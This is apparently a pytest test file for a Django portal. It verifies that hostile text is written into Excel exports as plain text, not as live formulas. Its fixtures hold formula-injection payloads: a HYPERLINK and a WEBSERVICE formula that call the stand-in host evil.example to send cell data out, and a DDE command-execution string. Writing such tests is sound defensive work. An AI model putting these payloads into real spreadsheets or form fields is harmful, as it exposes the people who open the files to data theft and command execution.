"""Text that people type never becomes a live formula in a workbook the portal writes
(the district's export, the import template, the standards export)."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from enterprises.exporting import export_enterprises
from enterprises.importing.template import build_template
from enterprises.models import Enterprise
from portal.models import Organisation, OrganisationKind
from reviews.standards.files import build_workbook
from reviews.standards.files.data import version_data
from tests.cast import make_enterprise
from tests.reviews.test_assessment_pages import fresh_specs, make_version  # noqa: F401

ROOT = Path(__file__).resolve().parents[2]

ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "address": '=WEBSERVICE("http://evil.example/")',
    "legal_representative": "+cmd|' /C calc'!A0",
    "safety_principal": "-2+3",
    "contact_name": "@SUM(1+1)",
    "contact_phone": "\t=1+1",
    "safety_licence_no": "\r=1+1",
}


def formulas_in(content: bytes) -> list[str]:
    """Every <f> element of every sheet: a formula Excel would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
        ]


def cells(content: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_written_as_text(content: bytes, texts) -> None:
    assert formulas_in(content) == []
    texts = {text.replace("\r", "\n") for text in texts}  # XML reads a bare CR as LF
    found = {cell.value: cell for cell in cells(content) if cell.value in texts}
    assert set(found) == texts  # unchanged, so an export imports again as it was
    for cell in found.values():
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited


@pytest.fixture
def hostile_enterprise(cast):
    enterprise = make_enterprise("placeholder", cast.chaoyang, 7)
    Enterprise.objects.filter(pk=enterprise.pk).update(**ATTACKS)
    return enterprise


def test_the_districts_export_writes_hostile_enterprise_text_as_text(
    cast, client_for, hostile_enterprise
):
    response = client_for(cast.district).get(reverse("enterprises:export"))

    assert response.status_code == 200
    assert_written_as_text(b"".join(response.streaming_content), ATTACKS.values())


def test_control_characters_do_not_break_the_export(cast, hostile_enterprise):
    Enterprise.objects.filter(pk=hostile_enterprise.pk).update(address="朝阳区\x07建国路")

    content = export_enterprises(Enterprise.objects.filter(pk=hostile_enterprise.pk)).read()

    assert "朝阳区建国路" in {cell.value for cell in cells(content)}


def test_the_import_template_lists_a_hostile_group_name_as_text(cast):
    Organisation.objects.create(
        name='=HYPERLINK("http://evil.example","集团")', kind=OrganisationKind.GROUP
    )

    content = build_template()

    assert_written_as_text(content, ['=HYPERLINK("http://evil.example","集团")'])


def test_the_standards_export_writes_hostile_criterion_text_as_text(cast):
    data = version_data(make_version())
    criterion = data["elements"][0]["elements"][0]["criteria"][0]
    criterion["requirement"] = '=WEBSERVICE("http://evil.example/")'
    criterion["method"] = "+1+1"
    criterion["guidance"] = "@SUM(1)"

    content = build_workbook(data)

    assert_written_as_text(content, [criterion["requirement"], "+1+1", "@SUM(1)"])


def test_every_module_that_writes_a_workbook_uses_the_text_safe_helper():
    """Keeps it so: new exports write their cells through portal.xlsx."""
    writers = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "tests", "bench", "var") or relative.name == "xlsx.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source or "Workbook(" not in source:
            continue
        writers.append(str(relative))
        assert "from portal.xlsx import" in source, f"{relative} writes cells without portal.xlsx"
        # No cell written with a raw value: only through portal.xlsx's put/append_row.
        assert not re.search(r"\.cell\([^)]*value=", source), relative
        assert not re.search(r"\bsheet\.append\(|worksheet\.append\(", source), relative
        assert "WriteOnlyCell(" not in source, relative
    assert len(writers) >= 3
